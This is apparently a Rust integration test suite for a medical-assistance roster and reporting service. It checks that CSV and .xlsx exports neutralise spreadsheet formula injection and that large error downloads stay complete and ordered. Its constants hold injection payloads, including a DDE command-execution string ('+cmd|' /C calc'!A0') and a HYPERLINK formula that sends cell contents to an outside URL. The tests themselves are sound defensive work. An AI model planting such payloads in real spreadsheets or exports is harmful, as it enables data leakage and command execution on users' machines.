//! Every download through the real router: no cell of an upload or a form comes back as a live
//! formula (CSV fields prefixed with `'`, .xlsx string cells with the quote prefix, numbers
//! still numbers), and rejected rows of a large import download whole and in order.

use std::io::{Cursor, Read};

use axum::http::StatusCode;
use calamine::{Data, DataType, Reader};
use chrono::{Datelike, NaiveDate, Utc};
use sea_orm::{ActiveModelTrait, EntityTrait, QueryFilter, QueryOrder, Set};
use serde_json::Value;

use cancer_aid::domain::Role;
use cancer_aid::export_safe::{csv_field, is_formula_like};
use cancer_aid::roster::export::CHUNK;
use entity::{hospital, roster_import_error, visit};

use crate::db_test;
use crate::fixtures::id_number as valid_id;
use crate::helpers::TestApp;
use crate::helpers::{Client, person_with_case, recorder};

const HYPERLINK: &str = "=HYPERLINK(\"http://x\"&B2,\"核对\")";
const CMD: &str = "+cmd|' /C calc'!A0";
const MINUS: &str = "-1+1";
const AT: &str = "@SUM(A1)";
const TAB: &str = "\t=1";

/// A one-sheet .xlsx whose cells are all text.
fn xlsx(rows: &[Vec<String>]) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (r, row) in rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            if !v.is_empty() {
                sheet.write_string(r as u32, c as u16, v).unwrap();
            }
        }
    }
    book.save_to_buffer().unwrap()
}

async fn import(client: &Client<'_>, name: &str, bytes: &[u8]) -> Value {
    let res = client
        .upload(
            "/api/v1/roster-imports",
            &[("group", "城市低保"), ("region_code", "220102")],
            name,
            bytes,
        )
        .await;
    res.assert_status(StatusCode::ACCEPTED);
    client.wait_import(res.json()["id"].as_i64().unwrap()).await
}

/// The records of a downloaded CSV, its byte-order mark checked and dropped.
fn csv_records(body: &[u8]) -> Vec<Vec<String>> {
    let text = body
        .strip_prefix(b"\xEF\xBB\xBF")
        .expect("a byte-order mark");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// No field of a CSV could be read as a formula: whatever begins with `=`, `+`, `-`, `@`, a tab
/// or a carriage return is a plain number.
#[track_caller]
fn assert_csv_inert(records: &[Vec<String>]) {
    for field in records.iter().flatten() {
        assert!(!is_formula_like(field), "live in the CSV: {field:?}");
    }
}

fn zip_entry(xlsx: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(xlsx)).unwrap();
    let mut out = String::new();
    zip.by_name(name).unwrap().read_to_string(&mut out).unwrap();
    out
}

/// Whether each cell style (`cellXfs`) of a workbook carries the quote prefix.
fn quote_prefixed_styles(xlsx: &[u8]) -> Vec<bool> {
    let styles = zip_entry(xlsx, "xl/styles.xml");
    let start = styles.find("<cellXfs").expect("cell styles");
    let end = styles[start..].find("</cellXfs>").unwrap() + start;
    styles[start..end]
        .split("<xf ")
        .skip(1)
        .map(|xf| xf.contains("quotePrefix=\"1\""))
        .collect()
}

/// "A1" of a zero-based (row, column).
fn cell_ref(row: u32, col: u32) -> String {
    let mut letters = String::new();
    let mut c = col + 1;
    while c > 0 {
        letters.insert(0, (b'A' + ((c - 1) % 26) as u8) as char);
        c = (c - 1) / 26;
    }
    format!("{letters}{}", row + 1)
}

/// Sheet `index` (1-based) of a workbook, named `name`, has no formula anywhere, and each of
/// `texts` is in it as a string cell whose style carries the quote prefix. Returns the sheet.
#[track_caller]
fn assert_xlsx_inert(
    xlsx: &[u8],
    index: usize,
    name: &str,
    texts: &[&str],
) -> calamine::Range<Data> {
    let xml = zip_entry(xlsx, &format!("xl/worksheets/sheet{index}.xml"));
    assert!(
        !xml.contains("<f>") && !xml.contains("<f "),
        "a formula in {name}"
    );
    let quoted = quote_prefixed_styles(xlsx);
    let mut book = calamine::Xlsx::new(Cursor::new(xlsx.to_vec())).unwrap();
    let range = book.worksheet_range(name).unwrap();
    let formulas = book.worksheet_formula(name).unwrap();
    assert!(
        formulas.used_cells().next().is_none(),
        "calamine finds a formula in {name}"
    );
    let (top, left) = range.start().unwrap_or((0, 0));
    for text in texts {
        let mut found = 0;
        for (r, c, v) in range.used_cells() {
            if !matches!(v, Data::String(s) if s == text) {
                continue;
            }
            found += 1;
            let at = cell_ref(top + r as u32, left + c as u32);
            let open = xml
                .find(&format!("<c r=\"{at}\""))
                .unwrap_or_else(|| panic!("{at} in {name}"));
            let tag = &xml[open..open + xml[open..].find('>').unwrap()];
            let style: usize = tag
                .split(" s=\"")
                .nth(1)
                .and_then(|s| s.split('"').next())
                .and_then(|s| s.parse().ok())
                .unwrap_or(0);
            assert!(
                quoted[style],
                "{at} of {name} ({text:?}) lacks the quote prefix: {tag}"
            );
        }
        assert!(found > 0, "{text:?} is not in {name} as text");
    }
    range
}

db_test!(rejected_rows_come_back_as_text_never_as_formulas);
async fn rejected_rows_come_back_as_text_never_as_formulas(app: TestApp) {
    let clerk = app.as_role(Role::RosterImporter).await;
    let header = ["身份证号码", "姓名", "区划代码", "保障起始日期", "备注"];
    let ok = valid_id("220102", "19800101", 1);
    let rows: Vec<Vec<String>> = [
        [HYPERLINK, "张三", "220102", "2020-06-01", MINUS],
        [CMD, AT, "220102", "2020-06-01", TAB],
        [MINUS, CMD, "220102", "2020-06-01", HYPERLINK],
        [AT, "李四", "220102", "2020-06-01", ""],
        [TAB, "王五", "220102", "2020-06-01", ""],
        [ok.as_str(), "赵六", "220102", "2020-06-01", AT],
    ]
    .iter()
    .map(|r| r.iter().map(|s| (*s).to_owned()).collect())
    .collect();
    let mut file = vec![header.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>()];
    file.extend(rows);
    let done = import(&clerk, "attack.xlsx", &xlsx(&file)).await;
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(done["counts"]["accepted"], 1);
    let id = done["id"].as_i64().unwrap();
    let stored: Vec<String> = roster_import_error::Entity::find()
        .filter(roster_import_error::COLUMN.import_id.eq(id))
        .order_by_asc(roster_import_error::COLUMN.id)
        .all(&app.db)
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.value)
        .collect();
    for attack in [HYPERLINK, CMD, MINUS, AT] {
        assert!(
            stored.iter().any(|v| v == attack),
            "{attack:?} is a rejected value: {stored:?}"
        );
    }

    // CSV: every formula-like value carries the `'`, the row numbers are bare numbers.
    let res = clerk
        .get(&format!("/api/v1/roster-imports/{id}/errors?format=csv"))
        .await;
    res.assert_status(StatusCode::OK);
    assert!(
        res.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert!(
        res.headers["content-disposition"]
            .to_str()
            .unwrap()
            .contains("attachment")
    );
    let records = csv_records(&res.body);
    assert_csv_inert(&records);
    let values: Vec<&str> = records[1..].iter().map(|r| r[3].as_str()).collect();
    let expected: Vec<String> = stored.iter().map(|v| csv_field(v).into_owned()).collect();
    assert_eq!(values, expected);
    for attack in [HYPERLINK, CMD, MINUS, AT] {
        assert!(
            values.contains(&format!("'{attack}").as_str()),
            "{attack:?} in {values:?}"
        );
    }
    assert!(
        records[1..].iter().all(|r| r[1].parse::<u32>().is_ok()),
        "row numbers are numbers"
    );

    // .xlsx: the problems and the rows to fix are string cells with the quote prefix.
    let res = clerk
        .get(&format!("/api/v1/roster-imports/{id}/errors?format=xlsx"))
        .await;
    res.assert_status(StatusCode::OK);
    assert!(
        res.headers["content-type"]
            .to_str()
            .unwrap()
            .contains("spreadsheetml")
    );
    assert_eq!(
        res.headers["content-length"].to_str().unwrap(),
        res.body.len().to_string(),
        "the file's length is announced"
    );
    let list = assert_xlsx_inert(&res.body, 1, "错误说明", &[HYPERLINK, CMD, MINUS, AT]);
    for r in 1..list.height() {
        assert!(
            matches!(list.get((r, 1)), Some(Data::Float(_))),
            "row {r}'s row number is a number"
        );
    }
    let fix = assert_xlsx_inert(
        &res.body,
        2,
        "待修正名册",
        &[HYPERLINK, CMD, MINUS, AT, TAB],
    );
    assert_eq!(fix.height(), 1 + 5, "one line per rejected row");

    // The quote prefix is a style, not a character: the fixed file goes back as typed, and
    // the same cells are refused with the same values.
    let again = import(&clerk, "fix.xlsx", &res.body).await;
    assert_eq!(again["counts"]["rejected"], 5, "{again}");
    let again_values: Vec<String> = roster_import_error::Entity::find()
        .filter(
            roster_import_error::COLUMN
                .import_id
                .eq(again["id"].as_i64().unwrap()),
        )
        .order_by_asc(roster_import_error::COLUMN.id)
        .all(&app.db)
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.value)
        .collect();
    assert_eq!(again_values, stored);

    // The template carries no data, and no formula either.
    let template = clerk
        .get("/api/v1/roster-imports/template?format=xlsx")
        .await;
    assert_xlsx_inert(&template.body, 1, "名册", &[]);
    assert_csv_inert(&csv_records(
        &clerk
            .get("/api/v1/roster-imports/template?format=csv")
            .await
            .body,
    ));
}

db_test!(reports_and_statements_write_names_as_text_and_money_as_numbers);
async fn reports_and_statements_write_names_as_text_and_money_as_numbers(app: TestApp) {
    let by = recorder(&app).await;
    let year = Utc::now().year() - 1;
    let idn = valid_id("220102", "19800101", 7);
    let (person, case) =
        person_with_case(&app.db, idn.clone(), CMD.to_owned(), "220102", year, by).await;
    let now = Utc::now();
    let h = hospital::ActiveModel {
        name: Set(HYPERLINK.to_owned()),
        code: Set("H001".into()),
        region_code: Set("220102".into()),
        designated: Set(true),
        created_at: Set(now),
        updated_at: Set(now),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .unwrap();
    let on = |m: u32| NaiveDate::from_ymd_opt(year, m, 10).unwrap();
    let visit_row = |m: u32, fen: i64, status: &str| visit::ActiveModel {
        case_id: Set(case),
        person_id: Set(person),
        hospital_id: Set(h.id),
        policy_id: Set(None),
        group_code: Set("low_income_urban".into()),
        region_code: Set("220102".into()),
        kind: Set(entity::visit::Kind::Outpatient),
        admitted_on: Set(None),
        discharged_on: Set(None),
        visit_date: Set(Some(on(m))),
        counted_on: Set(on(m)),
        year: Set(year),
        invoice_no: Set(None),
        total_cost_fen: Set(fen.max(0) * 3),
        insurance_paid_fen: Set(fen.max(0)),
        critical_illness_paid_fen: Set(0),
        medical_assistance_paid_fen: Set(0),
        out_of_pocket_fen: Set(fen.max(0) * 2),
        subsidy_fen: Set(fen),
        cap_reason: Set(None),
        status: Set(entity::visit::Status::parse(status).expect("a visit status")),
        reverses_visit_id: Set(None),
        recorded_by: Set(by),
        created_at: Set(now),
        updated_at: Set(now),
        ..Default::default()
    };
    let mut paid = visit_row(3, 50_000, "paid");
    paid.invoice_no = Set(Some(AT.to_owned()));
    let paid = paid.insert(&app.db).await.unwrap();
    let mut reversal = visit_row(5, -30_000, "paid");
    reversal.reverses_visit_id = Set(Some(paid.id));
    reversal.reversal_reason = Set(Some(MINUS.to_owned()));
    reversal.insert(&app.db).await.unwrap();
    let mut voided = visit_row(6, 10_000, "voided");
    voided.void_reason = Set(Some(TAB.to_owned()));
    voided.insert(&app.db).await.unwrap();

    let manager = app.as_role(Role::Manager).await;
    let url = |format: &str| {
        format!(
            "/api/v1/reports/spending?from={year}-01-01&to={year}-12-31&group_by=hospital,month&status=paid&format={format}"
        )
    };
    // CSV: the hospital's name carries the `'`; the reversal's -300.00 stays a number.
    let res = manager.get(&url("csv")).await;
    res.assert_status(StatusCode::OK);
    let records = csv_records(&res.body);
    assert_csv_inert(&records);
    let lines: Vec<&Vec<String>> = records
        .iter()
        .filter(|r| r[0] == format!("'{HYPERLINK}"))
        .collect();
    assert_eq!(lines.len(), 2, "{records:?}");
    assert_eq!(lines[0][4], "500.00");
    assert_eq!(
        lines[1][4], "-300.00",
        "a negative amount is a plain number"
    );
    assert_eq!(records.last().unwrap()[4], "200.00");

    // .xlsx: the name is quoted text; the figures are numeric cells.
    let res = manager.get(&url("xlsx")).await;
    res.assert_status(StatusCode::OK);
    let sheet = assert_xlsx_inert(&res.body, 1, "支出统计", &[HYPERLINK]);
    let amounts: Vec<&Data> = (3..sheet.height() as u32)
        .filter_map(|r| sheet.get_value((r, 4)))
        .collect();
    assert_eq!(
        amounts,
        [
            &Data::Float(500.0),
            &Data::Float(-300.0),
            &Data::Float(200.0)
        ],
        "{sheet:?}"
    );

    // The statement: the person's name heads it, the hospital, the invoice and the void
    // reason are typed by people; the amounts are numbers.
    let worker = app.as_role(Role::Caseworker).await;
    let res = worker
        .get(&format!(
            "/api/v1/persons/{idn}/statement?year={year}&format=xlsx"
        ))
        .await;
    res.assert_status(StatusCode::OK);
    let title = format!("{CMD} {year}年度救助对账单");
    let sheet = assert_xlsx_inert(&res.body, 1, "救助对账单", &[&title, HYPERLINK, AT, TAB]);
    let subsidies: Vec<&Data> = (5..8).filter_map(|r| sheet.get_value((r, 12))).collect();
    assert_eq!(
        subsidies,
        [
            &Data::Float(500.0),
            &Data::Float(-300.0),
            &Data::Float(100.0)
        ]
    );
}

/// Good people, then rows to reject, every other one for two reasons (a bad ID number and a bad
/// date), so that a row's problems straddle the chunks the downloads read. The good rows come
/// first: an import whose first thousand rows are mostly rejected stops there.
fn many_bad_rows(good: u32, rows: u32) -> Vec<u8> {
    let mut file = vec![vec![
        "身份证号码".to_owned(),
        "姓名".to_owned(),
        "保障起始日期".to_owned(),
    ]];
    for i in 0..good {
        let person = valid_id("220102", "19800101", i);
        file.push(vec![person, format!("好人{i}"), "2020-06-01".to_owned()]);
    }
    for i in 0..rows {
        let date = if i % 2 == 1 {
            "2020-13-45"
        } else {
            "2020-06-01"
        };
        file.push(vec![
            format!("X{i:06}"),
            format!("测试{i}"),
            date.to_owned(),
        ]);
    }
    xlsx(&file)
}

db_test!(thousands_of_rejected_rows_download_whole_and_in_order);
async fn thousands_of_rejected_rows_download_whole_and_in_order(app: TestApp) {
    let clerk = app.as_role(Role::RosterImporter).await;
    let done = import(&clerk, "many.xlsx", &many_bad_rows(600, 2_400)).await;
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(done["counts"]["accepted"], 600);
    assert_eq!(done["counts"]["rejected"], 2_400);
    let id = done["id"].as_i64().unwrap();
    let errors = roster_import_error::Entity::find()
        .filter(roster_import_error::COLUMN.import_id.eq(id))
        .order_by_asc(roster_import_error::COLUMN.id)
        .all(&app.db)
        .await
        .unwrap();
    assert_eq!(errors.len(), 3_600, "two problems in every other row");
    assert!(errors.len() as u64 > CHUNK, "more than one chunk");
    let boundary = CHUNK as usize;
    assert_eq!(
        errors[boundary - 1].row_number,
        errors[boundary].row_number,
        "a row's problems straddle the first chunk's end"
    );

    let res = clerk
        .get(&format!("/api/v1/roster-imports/{id}/errors?format=csv"))
        .await;
    res.assert_status(StatusCode::OK);
    let records = csv_records(&res.body);
    assert_eq!(
        records[0],
        ["工作表", "行号", "列", "原值", "错误代码", "说明"]
    );
    let got: Vec<(i64, String, String)> = records[1..]
        .iter()
        .map(|r| (r[1].parse().unwrap(), r[3].clone(), r[4].clone()))
        .collect();
    let want: Vec<(i64, String, String)> = errors
        .iter()
        .map(|e| (e.row_number, e.value.clone(), e.code.clone()))
        .collect();
    assert_eq!(got, want);

    let res = clerk
        .get(&format!("/api/v1/roster-imports/{id}/errors?format=xlsx"))
        .await;
    res.assert_status(StatusCode::OK);
    let mut book = calamine::Xlsx::new(Cursor::new(res.body.clone())).unwrap();
    let list = book.worksheet_range("错误说明").unwrap();
    let got: Vec<(i64, String)> = list
        .rows()
        .skip(1)
        .map(|r| (r[1].as_f64().unwrap() as i64, r[3].to_string()))
        .collect();
    let want: Vec<(i64, String)> = errors
        .iter()
        .map(|e| (e.row_number, e.value.clone()))
        .collect();
    assert_eq!(got, want);
    let fix = book.worksheet_range("待修正名册").unwrap();
    let header: Vec<String> = fix
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(&header[..3], ["身份证号码", "姓名", "保障起始日期"]);
    let lines: Vec<Vec<String>> = fix
        .rows()
        .skip(1)
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    assert_eq!(lines.len(), 2_400, "one line per rejected row");
    for (i, line) in lines.iter().enumerate() {
        assert_eq!(line[0], format!("X{i:06}"));
        assert_eq!(line[1], format!("测试{i}"));
        let problems = line[3].split('；').count();
        assert_eq!(problems, 1 + i % 2, "line {i}: {}", line[3]);
    }
}
